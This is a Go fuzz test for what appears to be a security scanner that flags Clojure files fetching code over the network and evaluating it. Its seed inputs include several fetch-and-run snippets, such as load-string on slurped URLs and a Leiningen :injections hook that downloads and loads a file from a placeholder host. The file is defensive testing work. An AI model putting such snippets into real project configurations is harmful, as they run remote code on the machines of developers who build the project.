package audit

import (
	"strings"
	"testing"
)

// FuzzCljFetchEval: no Clojure text stops the fetch-evaluate reader (its
// comment blanker, form reader and binding walk), the blanker keeps
// every offset and line, a form ends inside the text, and every
// finding's line is inside the file.
func FuzzCljFetchEval(f *testing.F) {
	for _, s := range []string{
		"(let [u (java.net.URL. \"http://h/x.clj\") s (slurp u)] (load-string s))\n",
		"{:user {:injections [(spit f (slurp (str \"http://\" h))) (load-file (.getPath f))]}}\n",
		"{:aliases {:x {:main-opts [\"-e\" \"(eval (read-string (slurp \\\"http://h\\\")))\"]}}}\n",
		"#_(load-string (slurp \"http://h\")) ; (eval x)\n\\; \\\" #\"re\\\"x\" ^{:a 1} #?(:clj a) #inst \"x\"",
		"(load-string", "\"", "\\", "#", "^", "#_", "(let [", "((((((((((", "~@'`@x",
		strings.Repeat("(", 300) + "load-string" + strings.Repeat(")", 300),
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, code string) {
		b := cljBlank(code)
		if len(b) != len(code) || strings.Count(b, "\n") != strings.Count(code, "\n") {
			t.Fatalf("blanking moved offsets: %q", code)
		}
		for i := 0; i < len(code) && i < 64; i++ {
			if e := cljFormEnd(code, i); e > len(code) || e == i {
				t.Fatalf("form at %d ends at %d of %d: %q", i, e, len(code), code)
			}
		}
		for _, rel := range []string{"profiles.clj", "deps.edn", "x.bb"} {
			sc := scanCtx(code)
			scanCljFetchEval(sc, rel, code)
			fuzzLinesInFile(t, sc, code)
		}
	})
}
